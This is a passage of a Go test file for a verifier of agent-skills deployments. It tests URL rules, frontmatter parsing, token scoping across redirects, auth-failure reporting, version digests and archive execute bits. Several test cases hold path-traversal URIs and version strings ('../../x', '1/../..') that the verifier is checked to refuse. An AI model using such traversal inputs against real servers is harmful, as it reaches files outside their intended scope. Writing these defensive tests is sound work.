	if _, why := v.resolve(index, "greet/SKILL.md"); !strings.Contains(why, `its host "skills.example.com" is not "github.com"`) {
		t.Errorf("relative: %q", why)
	}
}

func TestUsageErrors(t *testing.T) {
	for base, want := range map[string]string{
		"http://skills.example.com":     "plain http is refused",
		"ftp://skills.example.com":      `the scheme "ftp" is not https`,
		"skills.example.com":            "not an absolute URL",
		"https://u@skills.example.com":  "userinfo",
		"https://skills.example.com/?x": "query or fragment",
		"%zz":                           "is not a URL",
	} {
		_, err := Verify(context.Background(), base, Options{})
		if !errors.Is(err, ErrUsage) || !strings.Contains(err.Error(), want) {
			t.Errorf("Verify(%q): %v, want %q", base, err, want)
		}
	}
	_, err := Verify(context.Background(), "http://skills.example.com", Options{AllowHTTPLoopback: true})
	if !errors.Is(err, ErrUsage) || !strings.Contains(err.Error(), "over http only from this machine") {
		t.Errorf("http to a non-loopback host in loopback mode: %v", err)
	}
	// Plain http to a loopback deployment needs no option: it never leaves the machine.
	if _, err := newVerifier("http://127.0.0.1:1", Options{}); err != nil {
		t.Errorf("a loopback deployment over http: %v", err)
	}
	_, err = Verify(context.Background(), "https://skills.example.com", Options{TrustRoot: "https://github.com/"})
	if !errors.Is(err, ErrUsage) || !strings.Contains(err.Error(), "any user") {
		t.Errorf("UGC root: %v", err)
	}
}

func TestFrontmatterName(t *testing.T) {
	good := map[string]string{
		"---\nname: greet\n---\n":                          "greet",
		"---\r\nname: greet\r\n---\r\n":                    "greet",
		"\ufeff---\nname: greet\n---\n":                    "greet",
		"---\ndescription: x\nname: greet # c\n---\n":      "greet",
		"---\nname: \"gr\\u0065et\"\n---\n":                "greet",
		"---\nname: 'it''s'\n---\n":                        "it's",
		"---\nname:  greet  \nmetadata:\n  name: x\n---\n": "greet",
		"--- \nname: a#b\n---\n":                           "a#b",
	}
	for in, want := range good {
		got, err := FrontmatterName([]byte(in))
		if err != nil || got != want {
			t.Errorf("FrontmatterName(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	bad := map[string]string{
		"name: greet\n":                   "does not begin",
		"---\nname: greet\n":              "no closing",
		"---\ndescription: x\n---\n":      "no name",
		"---\nname: a\nname: b\n---\n":    "two name",
		"---\nname:\n  greet\n---\n":      "empty",
		"---\nname: |\n  greet\n---\n":    "not a plain or quoted",
		"---\nname: \"greet\n---\n":       "does not end",
		"---\nname: 'greet\n---\n":        "does not end",
		"---\nname: greet\n  more\n---\n": "continues",
		"---\nname: \"a\" b\n---\n":       "unexpected",
		"---\nname:greet\n---\n":          "no space",
		"---\nname: \xff\n---\n":          "UTF-8",
	}
	for in, want := range bad {
		got, err := FrontmatterName([]byte(in))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("FrontmatterName(%q) = %q, %v; want an error saying %q", in, got, err, want)
		}
	}
}

// TestVerifyToken: a private deployment verifies with its token, sent on every request to
// its origin, and not without it; a redirect to another origin loses the token.
func TestVerifyToken(t *testing.T) {
	d := newFake(t)
	d.token = "ske_secret"
	base, o := d.start()
	o.Tokens = Credentials{}
	if err := o.Tokens.Add(base, "ske_secret"); err != nil {
		t.Fatal(err)
	}
	if rep, err := Verify(context.Background(), base, o); err != nil || !rep.OK() {
		t.Fatalf("with the token: %v\n%s", err, allProblems(rep))
	}
	for _, p := range []string{"/.well-known/agent-skills/index.json", "/.well-known/agent-skills/greet/SKILL.md", "/mcp", "/.well-known/skills/refunds/notes/a b.md"} {
		if !d.requested(p) {
			t.Errorf("%s was not requested", p)
		}
	}
	_, rep := run(t, newFakeWithToken(t, "ske_secret"), nil)
	if rep.OK() || !strings.Contains(allProblems(rep), "HTTP 401") {
		t.Fatalf("without the token:\n%s", allProblems(rep))
	}
	// A token bound to another origin (another port of the same host) is not sent.
	other := newFakeWithToken(t, "ske_secret")
	_, rep = run(t, other, func(o *Options) { o.Tokens = Credentials{"http://127.0.0.1:1": "ske_secret"} })
	if rep.OK() || !strings.Contains(allProblems(rep), "HTTP 401") {
		t.Fatalf("with a token for another origin:\n%s", allProblems(rep))
	}
	if _, err := Verify(context.Background(), "https://skills.example.com", Options{Tokens: Credentials{"https://skills.example.com": "a b"}}); !errors.Is(err, ErrUsage) {
		t.Fatalf("a token with a space: %v", err)
	}
	for _, c := range []struct {
		from, to string
		kept     bool
	}{
		{"https://skills.example.com/x", "https://skills.example.com/y", true},
		{"https://skills.example.com/x", "https://skills.example.com:443/y", true},
		{"http://127.0.0.1:8787/x", "http://127.0.0.1:8788/y", false},
		{"https://skills.example.com/x", "https://cdn.skills.example.com/y", false},
		{"https://skills.example.com/x", "http://skills.example.com/y", false},
	} {
		first, _ := http.NewRequest("GET", c.from, nil)
		next, _ := http.NewRequest("GET", c.to, nil)
		next.Header.Set("Authorization", "Bearer t")
		ctx := context.WithValue(context.Background(), redirectRule{}, func(*url.URL) string { return "" })
		checkRedirect(next.WithContext(ctx), []*http.Request{first})
		if kept := next.Header.Get("Authorization") != ""; kept != c.kept {
			t.Errorf("a redirect from %s to %s: the token kept %t", c.from, c.to, kept)
		}
	}
}

func newFakeWithToken(t *testing.T, token string) *fake {
	d := newFake(t)
	d.token = token
	return d
}

// TestVerifyAuthRefused: a deployment whose auth option its host refused answers every
// request with the host's failure named "auth" (wire.FailAuth), which says nothing of the
// option; verify says so, and sends the reader to the deployment's logs. Another 500, or
// one whose message merely reads alike, is the status and nothing more.
func TestVerifyAuthRefused(t *testing.T) {
	const refused = `{"jsonrpc":"2.0","id":null,"error":{"code":-32603,"message":"Internal error: the server's auth option is invalid; see its log","data":{"failure":"auth"}}}`
	for _, c := range []struct{ name, body, want string }{
		{"the auth failure", refused, "HTTP 500 Internal Server Error: the deployment's auth option is invalid; see its logs"},
		{"another failure", `{"jsonrpc":"2.0","id":null,"error":{"code":-32603,"message":"Internal error: the server instance failed","data":{"failure":"instance"}}}`,
			"HTTP 500 Internal Server Error: no v0.2.0 skills index"},
		{"alike, but no failure", `{"jsonrpc":"2.0","id":null,"error":{"code":-32603,"message":"Internal error: the server's auth option is invalid; see its log"}}`,
			"HTTP 500 Internal Server Error: no v0.2.0 skills index"},
	} {
		t.Run(c.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				w.Header().Set("Cache-Control", "no-store")
				w.WriteHeader(500)
				io.WriteString(w, c.body)
			}))
			t.Cleanup(srv.Close)
			rep, err := Verify(context.Background(), srv.URL, Options{AllowHTTPLoopback: true})
			if err != nil {
				t.Fatal(err)
			}
			want := srv.URL + "/.well-known/agent-skills/index.json: " + c.want
			if rep.OK() || len(rep.Problems) != 1 || rep.Problems[0] != want {
				t.Fatalf("%s\nwant %s", allProblems(rep), want)
			}
		})
	}
	t.Run("the MCP endpoint alone", func(t *testing.T) {
		d := newFake(t)
		d.mcp = nil
		d.routes["/mcp"] = &route{status: 500, ctype: "application/json", body: []byte(refused)}
		_, rep := run(t, d, nil)
		if want := "skills/list: HTTP 500 Internal Server Error: the deployment's auth option is invalid; see its logs"; !strings.Contains(allProblems(rep), want) {
			t.Fatalf("%s\nwant %s", allProblems(rep), want)
		}
	})
}

// keptVersion serves files as the archive of version ver of refunds (its name in that
// version vname) and returns its _meta entry, with digest as the manifest digest ("" for
// that of files).
func (d *fake) keptVersion(t *testing.T, ver, vname, digest string, files []archive.Entry) map[string]any {
	d.serve("/.well-known/agent-skills/refunds/@"+ver+"/"+vname+".tar.gz", "application/gzip", tarGz(t, files))
	if digest == "" {
		var fs []archive.File
		for _, f := range files {
			fs = append(fs, archive.File{Name: f.Name, Data: f.Data})
		}
		digest = ManifestDigest(fs)
	}
	return map[string]any{"version": ver, "uri": "skill://acme/billing/refunds/@" + ver + "/" + vname + "/SKILL.md", "digest": digest}
}

// TestVerifyKeptVersions: the kept versions resources/list gives in _meta are each
// downloaded from their well-known @VERSION path and held to their manifest digest and
// name; the newest to the latest files; a malformed entry is a problem, and nothing it
// names is fetched.
func TestVerifyKeptVersions(t *testing.T) {
	old := []archive.Entry{{Name: "SKILL.md", Data: []byte("---\nname: refunds\ndescription: Older.\n---\n")}, {Name: "a.md", Data: []byte("a\n")}}
	renamed := []archive.Entry{{Name: "SKILL.md", Data: []byte("---\nname: payback\ndescription: Its old name.\n---\n")}}
	for _, c := range []struct {
		name     string
		kept     func(d *fake) []any
		versions int    // verified
		problem  string // "" for none
		notAsked string // a path that must not be requested
	}{
		{"good", func(d *fake) []any {
			return []any{d.keptVersion(t, "2.0.0", "refunds", "", refunds), d.keptVersion(t, "1.0.0", "refunds", "", old), d.keptVersion(t, "0.1.0", "payback", "", renamed)}
		}, 3, "", ""},
		{"no history", func(d *fake) []any { return nil }, 0, "", ""},
		{"files not the digest", func(d *fake) []any {
			return []any{d.keptVersion(t, "2.0.0", "refunds", "", refunds), d.keptVersion(t, "1.0.0", "refunds", manifestOfEntries(refunds), old)}
		}, 1, "refunds/@1.0.0/refunds.tar.gz: version 1.0.0: the files' manifest digest sha256:", ""},
		{"SKILL.md not the folder's name", func(d *fake) []any {
			return []any{d.keptVersion(t, "2.0.0", "refunds", "", refunds), d.keptVersion(t, "0.1.0", "other", "", renamed)}
		}, 1, `version 0.1.0: SKILL.md frontmatter name is "payback" (<nil>), not "other"`, ""},
		{"newest not the latest", func(d *fake) []any {
			return []any{d.keptVersion(t, "1.0.0", "refunds", "", old)}
		}, 1, "version 1.0.0, the newest kept, has manifest digest", ""},
		{"missing", func(d *fake) []any {
			k := d.keptVersion(t, "2.0.0", "refunds", "", refunds)
			delete(d.routes, "/.well-known/agent-skills/refunds/@2.0.0/refunds.tar.gz")
			return []any{k}
		}, 0, "version 2.0.0: HTTP 404 Not Found", ""},
		{"a name that climbs", func(d *fake) []any {
			return []any{map[string]any{"version": "1.0.0", "uri": "skill://acme/billing/refunds/@1.0.0/../../x/SKILL.md", "digest": manifestOfEntries(old)}}
		}, 0, "a kept version", "/.well-known/x.tar.gz"},
		{"another skill's path", func(d *fake) []any {
			return []any{map[string]any{"version": "1.0.0", "uri": "skill://greet/@1.0.0/greet/SKILL.md", "digest": manifestOfEntries(old)}}
		}, 0, "a kept version", "/.well-known/agent-skills/refunds/@1.0.0/greet.tar.gz"},
		{"a version that is not one segment", func(d *fake) []any {
			return []any{map[string]any{"version": "1/../..", "uri": "skill://acme/billing/refunds/@1/../../refunds/SKILL.md", "digest": manifestOfEntries(old)}}
		}, 0, "a kept version", "/.well-known/agent-skills/refunds/@1/../../refunds.tar.gz"},
		{"a URI that is not a SKILL.md", func(d *fake) []any {
			k := d.keptVersion(t, "1.0.0", "refunds", "", old)
			k["uri"] = "skill://acme/billing/refunds/@1.0.0/refunds"
			return []any{k}
		}, 0, "a kept version", "/.well-known/agent-skills/refunds/@1.0.0/refunds.tar.gz"},
		{"no SKILL.md", func(d *fake) []any {
			return []any{d.keptVersion(t, "2.0.0", "refunds", "", refunds), d.keptVersion(t, "1.0.0", "refunds", "", old[1:])}
		}, 1, "version 1.0.0: the archive has no SKILL.md", ""},
		{"no digest", func(d *fake) []any {
			return []any{map[string]any{"version": "1.0.0", "uri": "skill://acme/billing/refunds/@1.0.0/refunds/SKILL.md", "digest": "md5:00"}}
		}, 0, "a kept version", "/.well-known/agent-skills/refunds/@1.0.0/refunds.tar.gz"},
		{"an entry not an object", func(d *fake) []any { return []any{"x"} }, 0, "a kept version \"x\"", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := newFake(t)
			d.kept = map[string][]any{}
			if k := c.kept(d); k != nil {
				d.kept["skill://acme/billing/refunds/SKILL.md"] = k
			}
			_, rep := run(t, d, nil)
			var got *SkillReport
			for i := range rep.Skills {
				if rep.Skills[i].Name == "refunds" {
					got = &rep.Skills[i]
				}
			}
			if got == nil || got.Versions != c.versions {
				t.Errorf("refunds: %+v, want %d versions verified", got, c.versions)
			}
			switch all := allProblems(rep); {
			case c.problem == "" && all != "":
				t.Errorf("problems:\n%s", all)
			case c.problem != "" && (!strings.Contains(all, c.problem) || strings.Count(all, "\n") != 1):
				t.Errorf("problems:\n%s\nwant one with %q", all, c.problem)
			}
			if c.notAsked != "" && d.requested(c.notAsked) {
				t.Errorf("%s was requested", c.notAsked)
			}
		})
	}
}

// manifestOfEntries is the ManifestDigest of archive entries.
func manifestOfEntries(es []archive.Entry) string {
	var fs []archive.File
	for _, e := range es {
		fs = append(fs, archive.File{Name: e.Name, Data: e.Data})
	}
	return ManifestDigest(fs)
}

// TestVerifyZipModes: the .zip served beside a skill's .tar.gz must hold the same files
// with the same execute bits; a script executable in one archive only is a problem, and a
// deployment that serves no .zip is none.
func TestVerifyZipModes(t *testing.T) {
	exec := make([]archive.Entry, len(refunds))
	copy(exec, refunds)
	exec[3].Exec = true // scripts/run.sh
	for _, c := range []struct {
		name     string
		tar, zip []archive.Entry
		want     string // "" for no problem
	}{
		{"no zip", exec, nil, ""},
		{"the same", exec, exec, ""},
		{"executable in the tar only", exec, refunds, `file "scripts/run.sh" is executable in the .tar.gz only`},
		{"a file missing from the zip", exec, exec[:3], `file "scripts/run.sh" is in the .tar.gz but not in the .zip`},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := newFake(t)
			tgz := tarGz(t, c.tar)
			d.serve("/.well-known/agent-skills/refunds.tar.gz", "application/gzip", tgz)
			d.index["skills"].([]any)[1].(map[string]any)["digest"] = sha(tgz)
			if c.zip != nil {
				z, err := archive.Zip(c.zip)
				if err != nil {
					t.Fatal(err)
				}
				d.serve("/.well-known/agent-skills/refunds.zip", "application/zip", z)
			}
			_, rep := run(t, d, nil)
			got := allProblems(rep)
			if c.want == "" && got != "" || c.want != "" && !strings.Contains(got, c.want) {
				t.Errorf("problems %q, want %q", got, c.want)
			}
		})
	}
}
